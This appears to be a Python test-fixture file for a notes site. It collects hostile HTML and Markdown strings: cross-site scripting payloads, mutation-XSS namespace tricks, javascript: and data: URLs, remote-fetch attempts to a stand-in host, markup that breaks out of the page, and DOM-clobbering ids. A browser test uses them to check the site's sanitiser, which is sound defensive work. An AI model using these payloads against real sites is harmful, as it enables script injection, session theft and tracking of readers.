"""Hostile notes: HTML and Markdown in which a stranger tries to act, to fetch, or to leave the article.

One class after the other, each string our own: words in attributes that look like attributes, torn elements, changes of
namespace, addresses that run, style sheets, ids and classes of the page around the note. `tests/browser/test_notes.py`
opens each of them in a real browser, beside a harmless twin.
"""

from tests.hostile import ALERT

_ACT = f"onerror={ALERT}"
_FAR = "https://elsewhere.example"

IN_ATTRIBUTES = (
    # Words in one attribute that a pattern takes for another.
    *(
        f'<img {name}=" src=./a.png {_ACT} " src="nope.png">'
        for name in ("alt", "title", "lang", "class", "id", "sizes", "srcset", "longdesc", "usemap", "align", "dir")
    ),
    *(
        f"<img {name}=' href=note.md {_ACT} x=' src='a.png'>"
        for name in ("alt", "title", "data-x", "aria-label", "width", "height")
    ),
    *(
        f'<a title=" href=n0.md onmouseover={ALERT} x" {rest}>x</a>'
        for rest in (
            f'href="{_FAR}/"',
            "href=n0.md",
            "name=x",
            "id=x",
            "class='papers-known'",
            'hreflang=" href=n0.md "',
        )
    ),
    f"<a href=n0.md title='\"><img src=x {_ACT}>'>x</a>",
    f"<a href='n0.md\" onmouseover=\"{ALERT}'>x</a>",
    f"<a href=\"n0.md' onmouseover='{ALERT}\">x</a>",
    f'<a href=n0.md#"onmouseover={ALERT}//>x</a>',
    f"<video poster=' src=a.png {_ACT} ' src='a.png'></video>",
    f"<video title=\" poster=./a.png {_ACT} \" poster='a.png'></video>",
    f"<audio title=' src=./a.png {_ACT} ' src=a.png></audio>",
    f"<picture><source title=' srcset=./a.png {_ACT} ' srcset='a.png'><img src=a.png></picture>",
    f"<img src=a.png alt='a > b src=./a.png {_ACT}'>",
    f'<img src=a.png alt="<img src=./a.png {_ACT}>">',
    f"<img src=a.png alt='<!-- ' {_ACT} title=' -->'>",
    f"<img src=a.png alt='</textarea><img src=x {_ACT}>'>",
    f"<img alt=`a` src=a.png title=` {_ACT} `>",
    f"<img/alt=' src=./a.png {_ACT} '/src='a.png'>",
    f"<img\nalt\n=\n' src=./a.png {_ACT} '\nsrc\n=\n'a.png'>",
    f"<img alt=x alt=' src=./a.png {_ACT} ' src=a.png>",
    f"<h2 id=' src=./a.png {_ACT} '>x</h2>",
    f"<h2 id='\"><img src=x {_ACT}>'>x</h2>",
    f"<p id='x\" {_ACT} \"'>x</p>",
)

FROM_MARKDOWN = (
    f"![ src=./a.png {_ACT} ](a.png)",
    f'![x](a.png " src=./a.png {_ACT} ")',
    f"![x](a.png ' src=./a.png {_ACT} ')",
    f'![" src=./a.png {_ACT} ](a.png)',
    f'![x]( a.png"{_ACT} )',
    f'![x](<a.png" {_ACT} ">)',
    f"[ href=n0.md onmouseover={ALERT} ](n0.md)",
    f'[x](n0.md " href=n0.md onmouseover={ALERT} ")',
    f"[x](n0.md 'a\" onmouseover={ALERT} x=\"')",
    f"![x][r]\n\n[r]: a.png ' src=./a.png {_ACT} '",
    f"[x][s]\n\n[s]: n0.md \"' onmouseover={ALERT} '\"",
    f"[x][t]\n\n[t]: javascript:{ALERT} 'x'",
    f"![x](javascript:{ALERT})",
    f"![x](JAVASCRIPT&colon;{ALERT})",
    f"![x](&#106;avascript:{ALERT})",
    f"![x](data:text/html,<script>{ALERT}</script>)",
    f"[![x](javascript:{ALERT})](javascript:{ALERT})",
    f"<javascript:{ALERT}>",
    f"# x {{: id='\"><img src=x {_ACT}>' }}",
    f"## x {{ #__search onmouseover={ALERT} }}",
    f"## <img src=a.png alt=' {_ACT} '>",
    f"## ![ src=./a.png {_ACT} ](a.png)",
    f"## `<img src=x {_ACT}>`",
    f"## $\\text{{<img src=x {_ACT}>}}$",
    f"## x {{: data-toc-label='<img src=x {_ACT}>' }}",
    f'```mermaid\ngraph TD\n  a["<img src=x {_ACT}>"] --> b\n  click a href "javascript:{ALERT}"\n```',
    "~~~ mermaid\ngraph TD\n  a --> b\n~~~",
    "<pre class=mermaid><code>graph TD\n  a --> b</code></pre>",
    "<div class='mermaid'>graph TD; a --> b</div>",
    f"``` {{ .python title=\"' {_ACT} '\" }}\nx\n```",
    f"```html\n<img src=x {_ACT}>\n```",
    f"term <img src=x {_ACT}>\n: what it means <svg onload={ALERT}>",
    f"| <img src=x {_ACT}> | b |\n|---|---|\n| `|` | </td></tr></table><img src=x {_ACT}> |",
    f"[^1]: </li></ol></div></article><img src=x {_ACT}>\n\nx[^1]",
    f'*[HTML]: "><img src=x {_ACT}>\n\nHTML',
    f'!!! note "<img src=x {_ACT}>"\n    x',
    f'??? md-overlay "x"\n    <img src=x {_ACT}>',
    f'=== "<img src=x {_ACT}>"\n    x',
    f"$<img src=x {_ACT}>$ and $$</math></div></article><img src=x {_ACT}>$$",
    f"$\\href{{javascript:{ALERT}}}{{x}}$",
    "$\\unicode{x}\\style{position:fixed}{x}\\class{md-overlay}{x}$",
    "$\\hspace{-9999em}x$ $\\kern{-9999px}x$ $\\raise{9999em}x$",
    "$\\text{</annotation></semantics></math>}$ $\\text{<mglyph>}$",
    '--8<-- "mkdocs.yml"',
)

NAMESPACES = (
    *(
        f"<{outer}><{inner}><{hidden}></{inner}><img title='</{hidden}><img src=x {_ACT}>'>"
        for outer, inner in (
            ("math", "mtext"),
            ("math", "mi"),
            ("svg", "title"),
            ("svg", "desc"),
            ("svg", "foreignObject"),
        )
        for hidden in ("style", "noscript", "xmp", "textarea")
    ),
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x {_ACT}&gt;'>",
    f"<math><mtext><malignmark></malignmark><mglyph><style></math><img src=x {_ACT}>",
    f"<math><annotation-xml encoding='text/html'><style><img title='</style><img src=x {_ACT}>'>",
    f"<math><annotation-xml encoding=x><svg><title></annotation-xml><style><img src=x {_ACT}>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x {_ACT}>'>",
    f"<svg><p><style><g title='</style><img src=x {_ACT}>'>",
    f"<svg><style><![CDATA[</style><img src=x {_ACT}>]]></style></svg>",
    f"<svg><![CDATA[><img src=x {_ACT}>]]></svg>",
    f"<svg><font color='x'><img src=x {_ACT}></font></svg>",
    f"<svg></br><img src=x {_ACT}></svg>",
    f"<svg><set attributeName=onmouseover to={ALERT}><animate attributeName=href values=javascript:{ALERT}></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={ALERT}>#x'/></svg>",
    f"<svg><image href='{_FAR}/x.png'/><feImage href='{_FAR}/x.png'/></svg>",
    f"<svg><script xlink:href='data:,{ALERT}'></script></svg>",
    f"<svg><a href='javascript:{ALERT}'><circle r=99></circle></a></svg>",
    f"<math xlink:href='javascript:{ALERT}'><mi href='javascript:{ALERT}'>x</mi></math>",
    f"<math><maction actiontype='statusline#{_FAR}' xlink:href='javascript:{ALERT}'>x</maction></math>",
    "<math><mtext><select><math><mi>",
    "<math><mi><table><mi></table></math>x",
)

FETCHES = (
    *(
        f'<svg><rect {name}="url({_FAR}/x.svg#y)" width=9 height=9></rect></svg>'
        for name in ("fill", "stroke", "filter", "mask")
    ),
    f"<svg><rect fill='u\\72l({_FAR}/x.svg#y)' width=9 height=9></rect></svg>",
    f"<svg><rect fill='\\75 rl(\"{_FAR}/x.svg#y\")' width=9 height=9></rect></svg>",
    "<svg><rect stroke='url(\\2f\\2f elsewhere.example/x.svg#y)' width=9 height=9></rect></svg>",
    "<svg><rect fill='url(/\\elsewhere.example/x.svg#y)' width=9 height=9></rect></svg>",
    f"<svg><rect fill='image({_FAR}/x.png)' stroke='src({_FAR}/x.svg#y)' width=9 height=9></rect></svg>",
    "<svg><rect fill='URL(  //elsewhere.example/x#y  ) red' width=9 height=9></rect></svg>",
    f"<svg><rect fill='/**/url({_FAR}/x#y)' transform='url({_FAR}/x)' width=9 height=9></rect></svg>",
    f"<svg><g clip-path='url({_FAR}/x#y)' cursor='url({_FAR}/x),auto'><path d='M0 0h9'/></g></svg>",
    f"<svg><path d='M0 0h9' marker-end='url({_FAR}/x#y)'/></svg>",
    f"<p style='background:url({_FAR}/x)'>x</p>",
    f"<td style='text-align:left;background:url({_FAR}/x)'>x</td>",
    f"<table background={_FAR}/x><tr background={_FAR}/x><td background={_FAR}/x>x</table>",
    f"<body background={_FAR}/x>",
    f"<img src=a.png srcset='a.png 1x, {_FAR}/x.png 2x'>",
    "<img srcset='a.png 1x,//elsewhere.example/x.png 2x'>",
    "<img src='/\\elsewhere.example/x.png'>",
    "<img src='\\\\elsewhere.example\\x.png'>",
    "<img src='\t//elsewhere.example/x.png'>",
    "<img src='ht\ntps:elsewhere.example/x.png'>",
    "<img src='https:elsewhere.example/x.png'>",
    f"<video poster={_FAR}/x.png></video><video src={_FAR}/x.mp4></video><audio src={_FAR}/x.mp3 autoplay></audio>",
    f"<video><source src={_FAR}/x.mp4><track default src={_FAR}/x.vtt></video>",
    f"<picture><source srcset={_FAR}/x.png><img src=a.png></picture>",
    f"<input type=image src={_FAR}/x.png><input type=file><input type=submit formaction={_FAR}/>",
    f"<link rel=stylesheet href={_FAR}/x.css><link rel=dns-prefetch href={_FAR}>",
    f"<style>@import url({_FAR}/x.css); @font-face {{font-family: x; src: url({_FAR}/x)}}</style>",
    f"<object data={_FAR}/x></object><embed src={_FAR}/x><applet code=x archive={_FAR}/x></applet>",
    f"<iframe src={_FAR}/></iframe><frame src={_FAR}/><portal src={_FAR}/></portal><fencedframe></fencedframe>",
    f"<meta http-equiv=refresh content='0;url={_FAR}/'><meta http-equiv=Set-Cookie content=x=1>",
    f"<base href={_FAR}/><img src=x.png>",
    f"<a href=n0.md ping={_FAR}/>x</a>",
    f"<script src={_FAR}/x.js></script><script type=module>import '{_FAR}/x.js'</script>",
    f'<script type=importmap>{{"imports": {{"x": "{_FAR}/x.js"}}}}</script>',
    f'<script type=speculationrules>{{"prefetch": [{{"urls": ["{_FAR}/"]}}]}}</script>',
    f"<math><mglyph src={_FAR}/x.png></mglyph></math>",
    f"<bgsound src={_FAR}/x><image src={_FAR}/x.png><xml src={_FAR}/x></xml>",
    f"<template shadowrootmode=open><img src={_FAR}/x.png><style>:host {{all: initial}}</style></template>",
)

LEAVES = (
    "</div></div></article></main></div></body></html>",
    "</article><article class=md-content__inner>",
    *(
        f"<{tag}>"
        for tag in (
            *("plaintext", "xmp", "listing", "noscript", "noframes", "noembed", "iframe", "textarea", "title", "style"),
            *("script", "select", "template", "frameset", "object", "applet", "marquee", "button", "form", "fieldset"),
            *("table", "caption", "colgroup", "tbody", "tr", "td", "svg", "math", "details", "dialog open", "summary"),
            *("a href=n0.md", "b", "font size=7", "nobr", "h1", "p", "li", "dd", "ruby", "rt", "optgroup", "datalist"),
            *("head", "body class=x", "html lang=x", "header", "main", "nav", "!--", "!", "?", "![CDATA[", "/"),
        )
    ),
    "<select><option><table><tr><td></select>",
    "<select><input><select><textarea>",
    "<table><select></table>",
    "<table><caption><table></caption></article>",
    "<table><form><tr></form></table></form>",
    "<svg><foreignObject><div></svg></div></article>",
    "<math><mi></p></math></div></article>",
    "<frameset><frame></frameset></article>",
    "<template><template></template></article>",
    "<a><table><td><a><table><td><a>",
    "<p><b><i><u><s><p></b></i></u></s>",
    "<!--><!---></article><!--",
    "<!-- --!></article> -->",
    "<textarea></textarea ></article>",
    "<title></title/></article>",
    "<noscript><p title='</noscript></article>'>",
)

STEERS = (
    *(
        f"<p id={name}>x</p>"
        for name in (
            *("__search", "__drawer", "__config", "__toc", "__palette_0", "__md_scope", "mkdocs_search_modal", "_top"),
            *("mkdocs-search-query", "mkdocs-search-results", "navbar-collapse", "toc-collapse", "papers-browse"),
            *(
                "mermaid",
                "MathJax",
                "exports",
                "module",
                "define",
                "require",
                "base_url",
                "lunr",
                "search_index",
                "hljs",
            ),
        )
    ),
    "<a name=__md_get></a><a name=base_url></a><img name=body src=a.png><form name=location></form>",
    "<label for=__search>x</label><label for=__drawer>x</label><a href=#__drawer>x</a>",
    "<input type=checkbox id=__search checked><input type=radio name=__palette id=__palette_0>",
    "<input type=text id=x value=x><input type=password autofocus><input type=hidden name=x>",
    *(
        f"<div class='{names}'>x</div>"
        for names in (
            *("md-overlay", "md-search__overlay", "md-header", "md-dialog md-dialog--active", "md-sidebar", "md-top"),
            *(
                "papers-lightbox",
                "papers-hover",
                "papers-zoom",
                "js-focus-visible",
                "mermaid",
                "fixed-top",
                "modal show d-block",
            ),
            *("position-fixed top-0 start-0 w-100 h-100", "navbar navbar-expand", "rst-content wy-nav-side", "mine"),
        )
    ),
    f"<a class=papers-zoom href=javascript:{ALERT}><img src=a.png></a>",
    f"<a class=papers-zoom href='{_FAR}/x.png'><img src=a.png></a>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p><td style='text-align:left;position:fixed'>x</td>",
    "<p data-md-component=dialog data-md-toggle=search data-search-exclude data-bs-toggle=modal>x</p>",
    "<p hidden inert popover contenteditable tabindex=0 accesskey=s draggable=true translate=no>x</p>",
    "<p aria-hidden=true aria-label=x aria-live=assertive role=alert>x</p><p role=dialog>x</p><p role=banner>x</p>",
    "<table width=99999 height=99999><td width=999999px height=999999%>x</table>",
    "<img src=a.png width=99999 height=99999>",
    "<math><mpadded lspace=-9999px width=0 height=-999em depth=99999px><mtext>x</mtext></mpadded></math>",
    "<math><mspace width=-9999px></mspace><mo minsize=99999em maxsize=99999em>(</mo></math>",
    "<svg width=99999 height=99999 viewBox='0 0 1 1'><path d='M0 0h1' stroke-width=99999></path></svg>",
    "<button popovertarget=x>x</button><dialog open>x</dialog><marquee>x</marquee>",
    "<a href=n0.md target=_top rel=opener download referrerpolicy=unsafe-url>x</a>",
    f"<form action={_FAR}/ id=x></form><button form=x>x</button><input form=x name=q>",
    f"<map name=m><area href=javascript:{ALERT} shape=default></map><img usemap=#m src=a.png ismap>",
    "<x-element is=x slot=y part=z exportparts=w></x-element><slot name=x></slot>",
)

RUNS = (
    *(
        f"<a href='{address}'>x</a>"
        for address in (
            f"javascript:{ALERT}",
            f"&#x0a;javascript:{ALERT}",
            f"java&#x09;script:{ALERT}",
            f"&#1;javascript:{ALERT}",
            f"JAVASCRIPT&#58;{ALERT}",
            f"javascript://elsewhere.example/%0a{ALERT}",
            f"data:text/html,<script>{ALERT}</script>",
            f"vbscript:{ALERT}",
            "file:///etc/passwd",
            f"view-source:javascript:{ALERT}",
            f"\u00a0javascript:{ALERT}",
        )
    ),
    *(
        f"<{tag} {event}={ALERT}>x</{tag}>"
        for tag, event in (
            *(
                ("p", "onbeforematch"),
                ("p", "oncontentvisibilityautostatechange"),
                ("p", "onscrollend"),
                ("p", "onwheel"),
            ),
            *(("a", "onfocusin"), ("td", "ontransitionrun"), ("svg", "onbegin"), ("math", "onpointerover")),
            *(
                ("details", "onbeforetoggle"),
                ("section", "onanimationstart"),
                ("label", "onauxclick"),
                ("img", "onloadstart"),
            ),
        )
    ),
    f"<p ONCLICK={ALERT} oNmOuSeOvEr={ALERT} on\u017fcroll={ALERT}>x</p>",
    f"<p\x0bonclick={ALERT}>x</p><p/onclick={ALERT}/>x</p><p x='y'onclick={ALERT}>x</p>",
    f"<img src=a.png\x00 {_ACT}><img src=x\x00 on\x00error={ALERT}>",
    f"<<img src=x {_ACT}><img src=x {_ACT} <",
    f"<img src=x {_ACT}//",
    f"<img src=x {_ACT}\n\n",
)

NOTES = (*IN_ATTRIBUTES, *FROM_MARKDOWN, *NAMESPACES, *FETCHES, *LEAVES, *STEERS, *RUNS)
"""Everything, for the text of a note."""
